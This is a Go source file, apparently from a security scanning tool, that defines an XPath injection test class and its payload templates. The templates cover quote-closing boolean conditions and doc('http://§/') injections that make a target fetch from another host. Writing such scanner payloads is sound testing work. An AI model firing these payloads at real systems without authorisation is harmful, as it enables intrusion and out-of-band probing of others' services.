package attack

import (
	"slices"

	"github.com/mcpsf/mcpsf"
)

func xpathInjection() Class {
	return Class{
		ID:    "xpath-injection",
		Title: "A value becomes part of an XPath expression",
		Yield: kinds{"xml": 5, "query": 5, "name": 5, "id": 5, "email": 3, "text": 2, "unknown": 3}.
			about(prose(40), "xpath", "xml", "xquery"),
		Payloads: xpathPayloads,
		Balanced: 9,
	}
}

// The comparisons at the end close every quote and are always false.
const (
	xpathAnywhere = `0' or § or 'x'='" or § or "x"="`
	xpathBrackets = `0') or § or ('x'='") or § or ("x"="`
)

func xpathPayloads(w *World, p Place) []Payload {
	differ := conditions(nil, "xpath", w, xpathAnywhere, " and ", "condition in quotes")
	differ = conditions(differ, "xpath", w, xpathBrackets, " and ", "condition in quotes and brackets")
	hosts := queryPayloads("xpath host", mcpsf.SignRequest, [][2]string{
		{"¤' or doc('http://§/') or '", "document of another host"},
		{"¤\" or doc(\"http://§/\") or \"", "document of another host, in double quotes"},
		{"doc('http://§/')", "document of another host, no quotes"},
	})(w, p)
	return slices.Concat(differ, hosts)
}
